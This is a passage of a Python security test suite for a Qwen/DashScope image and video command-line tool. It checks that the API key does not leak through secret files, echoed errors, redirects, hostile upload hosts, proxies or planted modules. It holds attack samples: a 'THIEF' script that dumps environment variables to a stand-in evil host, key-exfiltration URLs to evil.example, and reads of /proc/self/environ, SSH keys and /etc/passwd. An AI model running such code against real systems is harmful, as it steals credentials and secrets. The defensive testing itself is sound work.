    file(".alibabacloud/credentials", "[default]\ndashscope_api_key = {key}\n"),
    dotenv("DASHSCOPE_API_KEY={key}"),
    link("link.png", "{home}/.dashscope/api_key"),
    link("link-to-folder", "{home}/.dashscope"),
    link("loop.png", "loop.png"),
    lambda world: world.write(world.cwd / "netrc.png", "machine x login y password {key}"),
    lambda world: world.write(world.cwd / "header.png", "\x89PNG {key}"),
)
IMAGE_FIELDS = ("reference_image", "reference_images")
VIDEO_FIELDS = ("img_url", "first_frame_url", "last_frame_url", "audio_url", "video_url", "reference_urls", "reference_video_urls")  # fmt: skip
INPUTS = (
    *(Attack(f"{path} as a picture", SECRET_FILES, ("x", "--image", path, "--print-response"), [3], 0) for path in SECRETS),
    *(
        Attack(f"{field} names {path}", SECRET_FILES, ("x", "--request", json.dumps({field: [path] if field.endswith("s") else path}), "--print-response"), [3], 0)
        for field in IMAGE_FIELDS
        for path in SECRETS[:4]
    ),
    *(
        Attack(f"{field} names {path}", SECRET_FILES, ("x", "--request", json.dumps({field: [path] if field.endswith("s") else path}), "--print-response"), [3], 0, program="video")
        for field in VIDEO_FIELDS
        for path in SECRETS[:4]
    ),
    *(Attack(f"{path} as a first frame", SECRET_FILES, ("x", "--first-frame", path, "--print-response"), [3], 0, program="video") for path in SECRETS),
    *(Attack(f"{path} as a request", SECRET_FILES, ("--file", path, "--print-response"), [3], 0) for path in SECRETS),
    *(Attack(f"{path} as a document", SECRET_FILES, ("x", "--model", "wan3.0-video", "--document", path, "--print-response"), [3], 0, program="video") for path in SECRETS),
    *(Attack(f"{path} as a web page", SECRET_FILES, ("x", "--model", "wan3.0-video", "--link", path, "--print-response"), [3], 0, program="video") for path in SECRETS),
    *(
        Attack(f"{path} as a text is only a text", SECRET_FILES, ("--set", f"prompt={path}", "--set", f"negative_prompt=@{path}", "--print-response"), [0], 1)
        for path in SECRETS[:4]
    ),
    Attack("a picture that is a link to a link to the key", [*SECRET_FILES, link("far.png", "link.png")], ("x", "--image", "far.png"), [3], 0),
)  # fmt: skip

KEY_IN_IT = '{"code": "%s", "message": "%s", "request_id": "%s"}'
INTERLEAVED = {"choices": [{"finish_reason": "stop", "message": {"role": "assistant", "content": [{"type": "text", "text": "{key} is a key"}, {"type": "image", "image": f"https://{STORAGE}/r/{{key}}.png"}]}}], "finished": True}  # fmt: skip
ECHOES = (
    *(
        Attack(f"the key in an error of {route}, HTTP {status}", [says(route, KEY_IN_IT % ("X{key}", "you sent Bearer {key}\nand {key}", "{key}"), status)], argv, codes, bought if status != 429 else sold)
        for route, argv, codes, bought, sold in (("sync", NOW, [1, 4, 5, 6], 1, 0), ("submit", TASK, [1, 4, 5, 6], 1, 0), ("poll", TASK, [1, 2, 4, 5], 1, 1), ("policy", UPLOAD, [1, 4, 5], 0, 0))
        for status in (200, 400, 401, 403, 404, 429, 500)
    ),
    Attack("the key in an error for people", [says("sync", KEY_IN_IT % ("X{key}", "{key}", "{key}"), 401)], ("x",), [4], 1),
    Attack("the key in a page", [says("sync", "<html>{key}</html>", 502, "text/html; x={key}")], NOW, [6], 1),
    Attack("the key in a page that is a success", [says("sync", "<html>{key}</html>", 200, "text/html; x={key}")], NOW, [6], 1),
    Attack("the key in a kind of content", [says("sync", "{}", 200, "application/json; x={key}")], NOW, [1, 6], 1),
    Attack("the key in storage's XML", [says("upload", "<Error><Code>X{key}</Code><Message>{key}</Message><StringToSign>{key}</StringToSign></Error>", 400, "application/xml")], UPLOAD, [1], 0),
    Attack("the key in a result's XML", [says("result", "<Error><Code>{key}</Code><Message>{key} expired</Message></Error>", 403, "application/xml")], NOW, [7], 1),
    Attack("the key in a policy", [edits("policy", data__upload_dir="{key}", request_id="{key}")], UPLOAD, [0, 1, 5], 0),
    Attack("the key in an upload host", [edits("policy", data__upload_host="http://{key}.evil.example/{key}")], UPLOAD, [1, 5], 0),
    Attack("the key and the bucket's secret in an error", [variables(QWEN_TMP_OSS_BUCKET="mine", QWEN_TMP_OSS_REGION="cn-beijing", QWEN_TMP_OSS_AK_ID="LTAI0123456789", QWEN_TMP_OSS_AK_SECRET="{secret}"), says("sync", KEY_IN_IT % ("X", "{key} and {secret}", "{secret}"), 400)], UPLOAD, [1, 5], 1, meets=True),
    Attack("what is shown beforehand", [], (*NOW, "--dry-run"), [0], 0),
    Attack("what is shown beforehand to people", [], ("x", "--dry-run"), [0], 0),
    Attack("a recorded conversation", [edits("sync", request_id="{key}", output__note="{key}")], (*NOW, "--record", "talk.json"), [0, 3], 1),
    Attack("a recorded upload", [], (*UPLOAD, "--record", "talk.json"), [0, 3], 1),
    Attack("a recorded refusal", [says("sync", KEY_IN_IT % ("X{key}", "Bearer {key}", "{key}"), 401)], (*NOW, "--record", "talk.json"), [3, 4], 1),
    Attack("the key in a list of tasks", [redirect("submit", 302, EVIL), says("list", '{"data": [{"task_id": "{key}", "status": "{key}", "model_name": "{key}", "start_time": 1700000000000}], "total": 1}')], TASK, [6], 1),
    Attack("the key as a request id", [edits("sync", request_id="{key}")], NOW, [0], 1),
    Attack("the key in usage and in names of fields", [edits("sync", usage={"{key}": ["{key}", {"x": "{key}"}]}, output__note="{key}")], NOW, [0], 1),
    *(
        Attack(f"the key in the address of a result on {host}", [pictures(f"https://{host}/{where}")], NOW, [7], 1)
        for host in ("evil.example", STORAGE)
        for where in ("{key}.png", "x.png?x={key}", "to?https://evil.example/{key}")
    ),
    Attack("the key in a redirected result", [redirect("result", 302, f"{EVIL}/{{key}}")], NOW, [7], 1),
    Attack("the key in a user's name", [pictures("https://{key}@evil.example/x.png")], NOW, [7], 1),
    Attack("the key in a host", [pictures("https://{key}.evil.example/x.png")], NOW, [7], 1),
    Attack("the key in a foreign upload host", [edits("policy", data__upload_host=f"{EVIL}/{{key}}")], UPLOAD, [1, 5], 0),
    Attack("the key in a form for a foreign host", [edits("policy", data__upload_host=EVIL, data__policy="{key}")], UPLOAD, [1, 5], 0),
    Attack("the key as a name in storage, on a foreign host", [edits("policy", data__upload_host=EVIL, data__upload_dir="x/{key}")], UPLOAD, [1, 5], 0),
    Attack("the key in a result's name", [pictures(f"https://{STORAGE}/{{key}}/{{key}}.png?Expires=1&{{key}}")], NOW, [7], 1),
    Attack("the key in a foreign result's host", [pictures("http://{key}.evil.example/x.png")], NOW, [7], 1),
    Attack("the key in a scheme", [pictures("{key}:x")], NOW, [7], 1),
    Attack("the key in interleaved text", [edits("sync", output=INTERLEAVED)], ("x", "--set", "enable_interleave=true", "--set", "stream=true", "--print-response"), [0, 6, 7], 1),
    Attack("the key in an interleaved task", [edits("poll", output__choices=INTERLEAVED["choices"])], ("x", "--async", "--set", "enable_interleave=true", "--print-response"), [0, 7], 1),
    Attack("the key in a stream", [says("stream", 'data: {"output": {"choices": [{"message": {"content": [{"type": "text", "text": "{key}"}]}}]}}\n\n', 200, "text/event-stream; json")], STREAM, [1, 6], 1),
    Attack("the key in a stream's error", [says("stream", 'event: error\ndata: {"code": "{key}", "message": "{key}"}\n\n', 200, "text/event-stream; json")], STREAM, [1, 6], 1),
    Attack("the key as a state beside a result", [edits("poll", output__task_status="{key}")], ("x", "--async", "--timeout", "30", "--print-response"), [0], 1),
    Attack("the key as a state", [edits("poll", output__task_status="{key}", output__choices=[])], ("x", "--async", "--timeout", "30", "--print-response"), [2], 1),
    Attack("the key as a failure", [edits("poll", output__task_status="FAILED", output__code="{key}", output__message="{key}", request_id="{key}")], TASK, [1], 1),
    Attack("the key as a remark beside a success", [edits("poll", output__message="{key}", output__orig_prompt="{key}")], TASK, [0], 1),
    Attack("the key as a failed picture", [edits("poll", output__results=[{"code": "{key}", "message": "{key}\n{key}"}], output__choices=[])], TASK, [1], 1),
    Attack("the key in a video's reply", [edits("poll", output__note="{key}", request_id="{key}")], ("x", "--print-response"), [0], 1, program="video"),
    Attack("the key in a video's URL", [edits("poll", output__video_url=f"https://{STORAGE}/{{key}}.mp4?{{key}}")], ("x", "--print-response"), [0, 1, 7], 1, program="video"),
    Attack("the key as a task id", [edits("submit", output__task_id="{key}")], TASK, [1, 2], 1),
    Attack("the key as a task id that is only submitted", [edits("submit", output__task_id="{key}")], ("x", "--async", "--submit-only"), [0, 1, 6], 1),
    Attack("the key as a task id of the user's", [], ("--task-id", "{key}", "--poll-once", "--print-response"), [1], 0),
    Attack("the key where a model should be", [], ("x", "--model", "{key}", "--print-response"), [1, 3], 0),
    Attack("the key where a field should be", [], ("x", "--set", "{key}=1", "--set", "size={key}", "--print-response"), [3], 0),
    Attack("the key where a region should be", [], ("x", "--region", "{key}", "--print-response"), [3], 0),
    Attack("the key as a flag", [], ("x", "--{key}"), [3], 0),
    Attack("the key in a broken request", [], ("--request", '{"prompt": {key}', "--print-response"), [3], 0),
    Attack("the key as a path", [], ("x", "--image", "{key}", "--print-response"), [3], 0),
    Attack("the key in a batch's answers", [LIST, edits("submit", output__note="{key}", request_id="{key}"), edits("poll", output__orig_prompt="{key}", output__note="Bearer {key}", request_id="{key}")], BATCH, [0], 2),
    Attack("the key in a batch's failures", [LIST, edits("poll", output__task_status="FAILED", output__code="{key}", output__message="{key}", request_id="{key}")], BATCH, [1], 2),
    Attack("the key in a batch's refusals", [LIST, says("submit", KEY_IN_IT % ("X{key}", "Bearer {key}", "{key}"), 400)], BATCH, [1], 2),
    Attack("the key as a batch's task ids", [LIST, edits("submit", output__task_id="{key}")], BATCH, [1, 2, 6], 2),
    Attack("the key in a batch's rows", [file("rows.txt", "{key} and more\n{key} and more\n")], BATCH, [0], 1),
    Attack("the key as a row's name", [lambda world: world.write(world.home / "rows.jsonl", "".join(json.dumps({"prompt": "x", "id": f"{number}{world.key}"}) + "\n" for number in range(2)))], ("--batch", "{home}/rows.jsonl", *BATCH[2:]), [0], 1),
    Attack("the key in a batch's command", [LIST], (*BATCH, "--set", "negative_prompt={key}"), [0], 2),
    Attack("the page of the key's pictures", [file("rows.txt", "{key}"), lambda world: world.assertEqual(world.image(*map(world.filled, BATCH)).code, 0)], ("--gallery", "out", "--print-response"), [0], 1),
)  # fmt: skip

# What was paid for is read out of answers that are no JSON; that opens no way that JSON does not have.
NO_JSON = (
    Attack("a link with the key, to a foreign host", [says("sync", 'x, "url": "https://evil.example/{key}.png", x')], NOW, [7], 1),
    Attack("a link with the key, to the storage", [says("sync", f'x, "url": "https://{STORAGE}/{{key}}.png", x')], NOW, [7], 1),
    Attack("a link to a file", [says("sync", 'x, "url": "file:///etc/passwd", x')], NOW, [6], 1),
    Attack("a link to this machine", [says("sync", 'x, "url": "http://127.0.0.1:22/x.png", x')], NOW, [7], 1),
    Attack("the key in every word", [says("sync", '"request_id": "{key}", "finish_reason": "{key}", "url": "{key}", "image": "data:{key}", x')], NOW, [7], 1),
    Attack("a task id that leads astray", [says("submit", '"task_id": "../../{key}", x')], TASK, [1, 2, 5], 1),
    Attack("a state with the key", [says("poll", '"task_status": "{key}", x')], (*TASK, "--timeout", "30"), [2], 1),
    Attack("a thousand brackets", [says("sync", "[" * 10**5 + '"url": "x"')], NOW, [6], 1),
    Attack("a flood of links", [says("sync", "".join(f'"url": "http://10.0.0.1/{number}"' for number in range(1000)))], NOW, [7], 1),
    Attack("a stream with the key in what is no JSON", [says("stream", 'data: x "image": "https://evil.example/{key}"\n\n', 200, "Text/Event-Stream")], STREAM, [6, 7], 1),
)  # fmt: skip


class Attacks(Attacked):
    def test_files_of_a_cloned_project(self) -> None:
        self.run_all(FILES)

    def test_variables_and_flags(self) -> None:
        self.run_all(ENVIRONMENT)

    def test_redirects_of_the_api(self) -> None:
        self.run_all(REDIRECTS)

    def test_hosts_that_the_service_names(self) -> None:
        self.run_all(HOSTS_THAT_ARE_NAMED)

    def test_ids_that_lead_astray(self) -> None:
        self.run_all(IDS)

    @unittest.skipIf(os.name == "nt", "links and paths differ")
    def test_secret_files_as_inputs(self) -> None:
        self.run_all(INPUTS)

    def test_the_service_repeats_the_key(self) -> None:
        for start, key in enumerate((CANARY, LEGACY, ODD)):
            self.run_all(ECHOES[start::3] if IS_SAMPLE else ECHOES, key)

    def test_answers_that_are_no_json(self) -> None:
        self.run_all(NO_JSON)

    def test_the_listener_hears_a_key_that_is_sent(self) -> None:
        """The trap works: a host that the user trusts on purpose does get the key, and the listener has it."""
        trusted = Attack("trusted", [variables(QWEN_BASE_URL=EVIL)], NOW, [6], 0, meets=True)
        with Attacker().listening() as self.attacker, self.secure_api() as server, self.names(server):
            with self.assertRaisesRegex(AssertionError, "the attacker heard the key"):
                self.attack(trusted, server)
            self.assertIn(f"Authorization: Bearer {CANARY}\r\n".encode(), b"".join(self.attacker.heard))


class Guard(unittest.TestCase):
    """The last door: what the transport is asked to send when everything before it has failed."""

    BASE = "https://dashscope.aliyuncs.com/api/v1"
    LET_OUT = (
        Request("POST", f"{BASE}/services/x", {"Authorization": f"Bearer {CANARY}"}, b"{}"),
        Request("GET", f"{BASE}/tasks/{CANARY}"),
        Request("GET", "https://evil.example/x?Signature=a%2Bb"),
        Request("POST", EVIL, {}, Stream(8, lambda: iter([b"the form", CANARY.encode()]))),
        Request("POST", EVIL, {}, Stream(0, lambda: iter([]))),
    )
    KEPT_IN = (
        Request("GET", f"{EVIL}/{CANARY}"),
        Request("GET", f"{EVIL}/?x={CANARY.upper()}"),
        Request("GET", f"{EVIL}/{''.join(f'%{ord(letter):02X}' for letter in CANARY)}"),
        Request("GET", f"https://{CANARY}.evil.example/"),
        Request("GET", f"https://{CANARY}@evil.example/"),
        Request("GET", EVIL, {"Authorization": f"Bearer {CANARY}"}),
        Request("GET", f"{BASE}.evil.example/", {"Authorization": f"Bearer {CANARY}"}),
        Request("GET", f"{BASE}@evil.example/", {"Authorization": f"Bearer {CANARY}"}),
        Request("POST", EVIL, {}, f"x={CANARY}".encode()),
        Request("POST", EVIL, {}, Stream(8, lambda: iter([f"form {CANARY}".encode(), b"file"]))),
    )

    def setUp(self) -> None:
        self.script = Script(*[answer({})] * len(self.LET_OUT))
        self.send = guarding(self.script, self.BASE, CANARY)

    def test_what_may_leave(self) -> None:
        for request in self.LET_OUT:
            with self.subTest(request.url):
                self.assertEqual(self.send(request).status, 200)
        self.assertEqual(self.script.requests, list(self.LET_OUT))

    def test_what_may_not(self) -> None:
        for request in self.KEPT_IN:
            with self.subTest(request.url), self.assertRaises(Fault) as caught:
                self.send(request)
            self.assertEqual((caught.exception.sent, caught.exception.permanent), (False, True))
        self.assertEqual(self.script.requests, [])

    def test_a_word_that_is_no_secret(self) -> None:
        send = guarding(self.script, self.BASE, "sandbox")
        self.assertEqual(send(Request("GET", f"https://{STORAGE}/sandbox/x.png")).status, 200)


# What only a process of its own can show -------------------------------------------------------------------------

THIEF = """
import os, socket
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "stolen"), "a") as stream:
    stream.write(repr(dict(os.environ)))
socket.create_connection(("{evil}".split(":")[0], int("{evil}".split(":")[1]))).sendall(repr(dict(os.environ)).encode())
"""
PLANTED = ("json.py", "ssl.py", "socket.py", "http/__init__.py", "urllib/__init__.py", "re.py", "qianwen/__init__.py", "qianwen/redact.py", "sitecustomize.py", "usercustomize.py", "record.py", "image.py")  # fmt: skip


def planted(world: Attacked) -> None:
    """Modules in the current folder that have the names of those that the program imports."""
    for name in PLANTED:
        world.write(world.cwd / name, THIEF)


def local_api(world: Attacked) -> None:
    """An API on this machine that the user has chosen."""
    world.env["DASHSCOPE_HTTP_BASE_URL"] = world.local_base


PROXIES = dict.fromkeys(("HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"), "http://{evil}")  # fmt: skip
PROCESSES = (
    Attack("modules in the current folder", [local_api, planted], NOW, [0], 1),
    Attack("modules in the current folder, and nothing but help", [local_api, planted], ("--help",), [0], 0),
    Attack("modules in the current folder, and a request that is refused", [planted], ("x", "--size", "1", "--print-response"), [3], 0),
    Attack("proxies of a file", [local_api, dotenv("\n".join(f"{name}={value}" for name, value in PROXIES.items()))], TASK, [0], 1),
    Attack("proxies of the environment never see a conversation on this machine", [local_api, variables(**PROXIES)], TASK, [0], 1),
    Attack("a file's base", [dotenv("DASHSCOPE_HTTP_BASE_URL=http://{evil}/api/v1")], NOW, [4], 0),
    Attack("a file's base in the root", [dotenv("QWEN_REGION=none\nQWEN_BASE_URL=http://{evil}", root=True)], NOW, [4], 0),
    Attack("state and certificates of a file", [local_api, dotenv("QIANWEN_STATE_DIR=../stolen\nSSL_CERT_FILE=/dev/null\nHOME=../stolen")], TASK, [0], 1),
    Attack("the process's own environment as a picture", [local_api], ("x", "--image", "/proc/self/environ", "--print-response"), [3], 0),
    Attack("the process's own environment as a request", [local_api], ("--file", "/proc/self/environ", "--print-response"), [3], 0),
    Attack("the process's own memory map as a picture", [local_api], ("x", "--image", "/proc/self/maps", "--print-response"), [3], 0),
    Attack("an upload of a folder of secrets", [local_api, file(".ssh/id", "{key}")], ("x", "--image", "{home}/.ssh", "--print-response"), [3], 0),
)  # fmt: skip


@unittest.skipIf(os.name == "nt", "POSIX only")
class Processes(Attacked):
    def test_as_they_really_run(self) -> None:
        for row in PROCESSES:
            with self.subTest(row.name):
                api = Hostile(self.clock)
                with Attacker().listening() as self.attacker, running(api) as self.local_base:
                    self.begin()
                    for arm in row.arms:
                        arm(self)
                    before = self.contents()
                    ran = self.start(*map(self.filled, row.argv))
                    self.assertIn(ran.code, row.codes, f"{ran.stdout}\n{ran.stderr}")
                    self.judge(ran, before, row.meets)
                self.assertEqual(api.bought, row.bought)
                self.assertFalse((self.folder / "stolen").exists(), "a file went where the attacker wanted it")
                if row.codes != [0]:
                    self.assertEqual(api.sent, [])

    OF_PYTHON = ("sitecustomize", "usercustomize", "re")  # the last for -m

    def test_modules_of_the_current_folder_are_never_imported(self) -> None:
        """But for `sitecustomize` and what else Python itself imports before the program's first line."""
        with Attacker().listening() as self.attacker:
            self.begin()
            self.env = {}
            loaded = self.python("-c", "import sys; print(*sys.modules)").stdout.split()
            for name in PLANTED:
                if name.partition(".")[0].partition("/")[0] not in (*loaded, *self.OF_PYTHON, "image"):
                    self.write(self.cwd / name, THIEF)
            self.assertTrue((self.cwd / "json.py").exists() and (self.cwd / "qianwen").is_dir())
            for paths, argv in (
                (":/x", (str(SCRIPTS / "image.py"), "x", "--sandbox")),
                (".", (str(SCRIPTS / "video.py"), "x", "--dry-run")),
                ("", ("-S", str(SCRIPTS / "video.py"), "x", "--dry-run")),
                (f"../cwd:{self.cwd}", (str(SCRIPTS / "gossamer.py"), "--help")),
                (":", (str(SCRIPTS / "sandbox.py"), "--help")),
                (str(SCRIPTS), ("-m", "image", "x", "--dry-run")),
            ):
                with self.subTest(paths, argv=argv):
                    self.env["PYTHONPATH"] = paths
                    ran = self.python(*argv)
                    self.assertEqual(ran.code, 0, ran.stderr)
                    self.assertFalse((self.folder / "stolen").exists(), "a module of the current folder was imported")
            self.assertEqual(self.attacker.connections, 0)

    def test_the_entries_clean_the_path_alike(self) -> None:
        blocks = {
            re.search(
                r"# Modules come from .*?sys.path.insert\(0, folder\)\n", path.read_text(encoding="utf-8"), re.DOTALL
            )[0]  # type: ignore[index]
            for path in SCRIPTS.glob("*.py")
        }
        self.assertEqual(len(blocks), 1)

    def start(self, *argv: str) -> Ran:
        return self.python(str(SCRIPTS / "image.py"), *argv, "--timeout", "2")

    def python(self, *argv: str) -> Ran:
        surroundings = {
            "PATH": os.environ["PATH"],
            "HOME": str(self.home),
            "PYTHONDONTWRITEBYTECODE": "1",
            **BYTECODE,
            **self.env,
        }
        ran = subprocess.run(
            [sys.executable, *argv], cwd=self.cwd, env=surroundings, stdin=subprocess.DEVNULL, capture_output=True
        )
        return Ran(ran.returncode, ran.stdout.decode(), ran.stderr.decode())
